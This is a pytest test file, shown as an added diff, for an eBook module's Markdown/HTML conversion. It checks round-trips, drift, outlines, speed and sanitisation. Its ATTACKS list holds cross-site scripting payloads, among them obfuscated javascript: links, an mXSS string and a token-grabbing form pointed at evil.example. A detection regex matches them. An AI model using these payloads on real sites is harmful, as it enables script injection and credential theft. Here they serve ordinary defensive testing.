@@ -1,0 +1,137 @@
+"""Markdown and HTML of the eBook are two spellings of one text; nothing in either can run."""
+
+import re
+import time
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from dashboard.ai_content.ebook import html, markdown
+from tests.ai_content import packages as some
+
+BOOK = """# The *coffee* book
+
+Intro **bold**, ~~gone~~, under_scores, 1 * 2 and `x < 1`. [Link](https://x.example/a "t") & more.
+
+- one
+- two
+  - nested
+
+1. a
+
+   second paragraph
+2. b
+
+> quoted
+> twice
+
+| a | b |
+|---|--:|
+| 1 | 2 |
+
+```
+x < 1
+```
+
+---
+
+![picture](https://x.example/y.png)
+"""
+
+
+def test_html_turned_into_markdown_gives_the_same_html_again() -> None:
+    made = html.from_markdown(BOOK)
+    assert not html.drifted(markdown.from_html(made), made)
+
+
+lines = st.lists(
+    st.one_of(
+        st.text("ab *_#>-1.`<[]|~\\&", min_size=1, max_size=12),
+        st.sampled_from(["# h", "- item", "  - sub", "1. n", "> q", "**b**", "*i*", "a\\\nb", "```\ncode\n```", "---"]),
+    ),
+    max_size=6,
+)
+
+
+@some.few
+@given(lines)
+def test_no_text_is_lost_between_html_and_markdown(pieces: list[str]) -> None:
+    made = html.from_markdown("\n\n".join(pieces))
+    again = html.from_markdown(markdown.from_html(made))
+    assert letters(again) == letters(made)
+
+
+def letters(markup: str) -> str:
+    return re.sub(r"[^ab1]", "", html.comparable(re.sub(r"<[^>]*>", "", markup)))
+
+
+@pytest.mark.parametrize(
+    ("text", "markup", "drifted"),
+    [
+        ("# A\n\nb", "<h1>A</h1>\n<p>b</p>\n", False),
+        ("# A\n\nb", "<h1>A</h1><p>b</p>", False),
+        ("# A\n\nb", "<h1>A</h1>  <p>\n b </p>", False),
+        ("a & b", "<p>a &amp; b</p>", False),
+        ("é", "<p>&eacute;</p>", False),
+        ("[x](https://y.example)", '<p><a href="https://y.example">x</a></p>', False),
+        ("- a\n- b", "<ul><li><p>a</p></li><li><p>b</p></li></ul>", False),
+        ("# A\n\nb", "<h1>A</h1><p>c</p>", True),
+        ("# A", "<h2>A</h2>", True),
+        ("a", "", True),
+        ("", "<p>a</p>", True),
+        ("", "", False),
+        ("&lt;b&gt;", "<p><b></b></p>", True),
+    ],
+)
+def test_drift_is_what_a_reader_would_see(text: str, markup: str, drifted: bool) -> None:
+    assert html.drifted(text, markup) is drifted
+
+
+ATTACKS = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    '<a href="javascript:alert(1)">x</a>',
+    '<a href="JaVaScRiPt&#58;alert(1)">x</a>',
+    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+    "<svg onload=alert(1)></svg>",
+    "<iframe src=https://evil.example></iframe>",
+    '<p style="position:fixed;inset:0">x</p>',
+    "<style>*{display:none}</style>",
+    "<form action=https://evil.example><input name=token></form>",
+    "<math><mtext><table><mglyph><style><!--</style><img title=--&gt;&lt;img src=1 onerror=alert(1)&gt;>",
+    "[x](javascript:alert(1))",
+    "[x](data:text/html;base64,PHN2Zz4=)",
+    "![x](javascript:alert(1))",
+    "<!--><script>alert(1)</script>-->",
+    '<base href="https://evil.example">',
+]
+RUNS = re.compile(
+    r"<(?:script|iframe|svg|style|form|input|base|math|object|embed|link|meta)|<[^>]* (?:on\w+|style|srcdoc)\s*=|"
+    r"<[^>]* (?:href|src)\s*=\s*[\"']?\s*(?:javascript|data|vbscript)",
+    re.IGNORECASE,
+)
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_html_that_attacks_is_harmless_by_every_way_in(attack: str) -> None:
+    assert not RUNS.search(html.clean(attack))
+    assert not RUNS.search(html.from_markdown(attack))
+    assert not RUNS.search(html.from_markdown(markdown.from_html(attack)))
+
+
+def test_the_outline_has_the_headings_with_their_lines() -> None:
+    found = html.outline("# One *two*\n\ntext\n\n### `code` three\n\n```\n# no heading\n```\n")
+    assert [(heading.level, heading.text, heading.line) for heading in found] == [
+        (1, "One two", 0),
+        (3, "code three", 4),
+    ]
+
+
+def test_a_text_of_5_kb_is_html_well_within_a_frame() -> None:
+    text = (BOOK * 12)[:5000]
+    html.from_markdown(text)
+    html.from_markdown.cache_clear()
+    started = time.process_time()
+    html.from_markdown(text)
+    assert time.process_time() - started < 0.05
